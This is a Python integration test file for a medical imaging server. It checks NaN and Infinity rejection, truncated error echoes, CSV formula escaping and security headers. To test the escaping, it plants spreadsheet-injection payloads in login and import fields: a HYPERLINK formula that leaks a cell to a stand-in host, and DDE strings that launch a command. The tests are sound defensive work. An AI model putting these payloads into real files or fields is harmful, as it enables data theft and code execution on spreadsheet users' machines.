"""Bad input on the real server (real Orthanc, real database): NaN and Infinity in JSON bodies, long inputs echoed in
errors, spreadsheet formulas in CSV answers, an RTSTRUCT with NaN points; and the security headers of every answer."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime

import httpx
import numpy as np
import pydicom
import pytest

from awesomme.core.csv_writer import FORMULA_STARTS
from awesomme.dicom.volumes import grid_from_datasets, sort_by_position
from awesomme.orthanc.client import OrthancClient
from tests.integration.conftest import Account, Cohorts, StoredPatient, attach_to_cohort, client_for, store_patient
from tests.seg_files import nifti_bytes, rtstruct_bytes

FORMULA = '=HYPERLINK("http://198.51.100.9/?leak="&A1,"open")'


@pytest.fixture(scope="module")
def knee(
    orthanc: OrthancClient, server_url: str, admin: Account, cohorts: Cohorts, tmp_path_factory: pytest.TempPathFactory
) -> StoredPatient:
    stored = store_patient(orthanc, "osteosarcoma-mr", 1811, tmp_path_factory.mktemp("bad-input"))
    attach_to_cohort(server_url, admin, cohorts.alpha, studies=[stored.patient.study_uid])
    return stored


def _post_json_text(server_url: str, path: str, text: str, headers: dict[str, str] | None = None) -> httpx.Response:
    return httpx.post(
        f"{server_url}{path}",
        content=text.encode(),
        headers={"Content-Type": "application/json", **(headers or {})},
        timeout=60,
    )


@pytest.mark.parametrize(
    "body",
    [
        '{"code": "x", "username": NaN, "password": "long-enough-password"}',
        '{"code": "x", "username": "someone", "password": Infinity}',
        '{"code": "x", "username": "someone", "password": -Infinity}',
        '{"code": "x", "username": "someone", "password": "long-enough-password", "extra": [1e999]}',
    ],
)
def test_nan_or_infinity_in_a_json_body_is_a_422_naming_it(server_url: str, body: str) -> None:
    """Python's JSON reader takes NaN and Infinity; echoing them in the 422 crashed the answer (500)."""
    reply = _post_json_text(server_url, "/api/auth/register", body)
    assert reply.status_code == 422, reply.text
    assert "JSON numbers must be finite" in reply.json()["detail"]


def test_nan_in_a_json_body_is_a_422_on_monailabel_routes_and_for_admins(
    server_url: str, admin: Account, cohorts: Cohorts
) -> None:
    headers = admin.headers(server_url)
    for path in ("/api/cohorts", f"/api/cohorts/{cohorts.alpha}/studies"):
        reply = _post_json_text(server_url, path, '{"name": NaN, "study_uids": [NaN]}', headers)
        assert reply.status_code == 422, (path, reply.text)
        assert "NaN" in reply.json()["detail"]
    # MONAI Label's own JSON routes: refused before any job starts.
    reply = _post_json_text(server_url, "/scoring/", '{"max_samples": NaN}', headers)
    assert reply.status_code == 422, reply.text


def test_validation_errors_quote_only_a_short_excerpt_of_the_input(server_url: str) -> None:
    long = "A" * 200_000
    reply = httpx.post(
        f"{server_url}/api/auth/register",
        json={"code": long, "username": long, "password": long, "nested": [long] * 5},
        timeout=60,
    )
    assert reply.status_code == 422, reply.text[:500]
    assert len(reply.content) < 2_000, len(reply.content)
    for error in reply.json()["detail"]:
        assert len(json.dumps(error.get("input", ""))) <= 80, error


def test_a_whole_json_body_of_the_wrong_type_is_quoted_as_an_excerpt(server_url: str) -> None:
    reply = httpx.post(f"{server_url}/api/auth/register", json=[{"x": "B" * 1000}] * 500, timeout=60)
    assert reply.status_code == 422, reply.text[:500]
    assert len(reply.content) < 1_000, len(reply.content)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    """No cell a spreadsheet would run: text starting with = + - @ tab or CR is quoted with a leading '."""
    for cell in cells:
        if cell.startswith(FORMULA_STARTS):
            float(cell)  # only numbers (a negative value) may start with '-'


def test_audit_csv_cells_are_escaped_against_formula_injection(server_url: str, admin: Account) -> None:
    """A failed login's username and a refused call's target land in the journal as the client wrote them."""
    since = datetime.now(UTC).isoformat()  # this test's events only, however long the journal already is
    form = {"grant_type": "password", "username": FORMULA, "password": "wrong-password"}
    headers = {"X-Forwarded-For": "198.51.100.181"}
    assert httpx.post(f"{server_url}/api/auth/token", data=form, headers=headers, timeout=60).status_code in (400, 401)
    admin_headers = admin.headers(server_url)
    httpx.get(f"{server_url}/datastore/image", params={"image": "@SUM(1+1)*cmd|' /C calc'!A0"}, headers=admin_headers)
    reply = httpx.get(f"{server_url}/api/audit.csv", params={"since": since}, headers=admin_headers, timeout=60)
    assert reply.status_code == 200, reply.text
    cells = _cells(reply.text)
    _assert_no_formula(cells)
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells) or FORMULA not in reply.text


def test_agreement_csv_cells_are_escaped_against_formula_injection(
    server_url: str, cohorts: Cohorts, knee: StoredPatient
) -> None:
    """An import's reader is a client's display field, the segment's name too: both reach the agreement CSV."""
    grid = grid_from_datasets(knee.datasets)
    first, second = np.zeros(grid.shape, np.uint8), np.zeros(grid.shape, np.uint8)
    first[8:12, 60:80, 60:80] = 1
    second[8:12, 62:82, 60:80] = 1
    for account, mask, reader in ((cohorts.alpha_member, first, FORMULA), (cohorts.alpha_admin, second, "@SUM(A1:A9)")):
        with client_for(server_url, account) as http:
            reply = http.post(
                "/api/segmentations/import",
                files={"file": ("label.nii.gz", nifti_bytes(mask, knee.patient.affine), "application/octet-stream")},
                data={"series_uid": knee.patient.series_uid, "reader": reader, "segment_label": "+cmd|' /C calc'!A0"},
            )
        assert reply.status_code == 201, reply.text
    with client_for(server_url, cohorts.alpha_member) as http:
        reply = http.get("/api/agreement/segmentations.csv", params={"series_uid": knee.patient.series_uid})
    assert reply.status_code == 200, reply.text
    cells = _cells(reply.text)
    _assert_no_formula(cells)
    assert "'" + FORMULA in cells and "'@SUM(A1:A9)" in cells and "'+cmd|' /C calc'!A0" in cells


def test_an_rtstruct_with_nan_points_is_a_422(server_url: str, cohorts: Cohorts, knee: StoredPatient) -> None:
    truth = np.zeros(knee.patient.shape, bool)
    truth[10, 50:90, 50:90] = True
    rtstruct = pydicom.dcmread(io.BytesIO(rtstruct_bytes(sort_by_position(knee.datasets), {"tumour": truth})))
    contour = rtstruct.ROIContourSequence[0].ContourSequence[0]
    points = [str(value) for value in contour.ContourData]
    points[4] = "NaN"
    contour["ContourData"] = pydicom.DataElement(0x30060050, "DS", "\\".join(points))
    stream = io.BytesIO()
    rtstruct.save_as(stream)
    with client_for(server_url, cohorts.alpha_member) as http:
        reply = http.post(
            "/api/segmentations/import",
            files={"file": ("rtstruct.dcm", stream.getvalue(), "application/octet-stream")},
            data={"series_uid": knee.patient.series_uid},
        )
    assert reply.status_code == 422, reply.text
    assert "NaN or infinite coordinate" in reply.json()["detail"]


SECURITY = {"x-content-type-options": "nosniff", "x-frame-options": "DENY"}


def _assert_secured(reply: httpx.Response, *, no_store: bool) -> None:
    for name, value in SECURITY.items():
        assert reply.headers.get(name) == value, (reply.url, name, dict(reply.headers))
    assert "frame-ancestors 'none'" in reply.headers.get("content-security-policy", ""), (reply.url, reply.headers)
    if no_store:
        assert reply.headers.get("cache-control") == "no-store", (reply.url, dict(reply.headers))


def test_security_headers_on_api_dicomweb_and_pages(
    server_url: str, cohorts: Cohorts, knee: StoredPatient, admin: Account
) -> None:
    with client_for(server_url, cohorts.alpha_member) as http:
        api = [
            http.get("/api/health"),
            http.get("/api/cohorts"),
            http.get("/api/cohorts/999999"),  # a refusal
            http.get("/dicom-web/studies"),
            http.get(f"/dicom-web/studies/{knee.patient.study_uid}/series/{knee.patient.series_uid}/metadata"),
            http.get("/proxy/dicom/qido/studies"),
            http.get("/info/"),
            http.get("/datastore/", params={"output": "stats"}),
        ]
    api.append(httpx.get(f"{server_url}/dicom-web/studies"))  # anonymous: 401
    for reply in api:
        assert reply.status_code < 500, (reply.url, reply.text)
        _assert_secured(reply, no_store=True)
        assert reply.headers["referrer-policy"] == "no-referrer"
        assert "default-src 'none'" in reply.headers["content-security-policy"]
    login = httpx.get(f"{server_url}/login")
    assert login.status_code == 200
    _assert_secured(login, no_store=True)
    assert "script-src" not in login.headers["content-security-policy"]  # the form page runs no script
    with client_for(server_url, cohorts.alpha_member) as http:
        viewer = http.get("/ohif/")
    assert viewer.status_code == 200 and "<html" in viewer.text.lower()
    _assert_secured(viewer, no_store=False)
    policy = viewer.headers["content-security-policy"]
    assert "default-src 'self'" in policy and "https:" not in policy and "http:" not in policy


def test_the_docs_page_loads_nothing_from_another_host(server_url: str) -> None:
    for path in ("/docs", "/"):
        page = httpx.get(f"{server_url}{path}")
        assert page.status_code == 200, page.text
        _assert_secured(page, no_store=True)
        assert "script-src 'self';" in page.headers["content-security-policy"]
        assert not re.search(r"(src|href)=\"(https?:)?//", page.text), page.text
        for asset in re.findall(r"(?:src|href)=\"(/docs/[^\"]+)\"", page.text):
            reply = httpx.get(f"{server_url}{asset}")
            assert reply.status_code == 200 and reply.content, asset
            assert reply.headers["x-content-type-options"] == "nosniff"
    assert httpx.get(f"{server_url}/docs/swagger-editor.js").status_code == 422  # only the page's own files
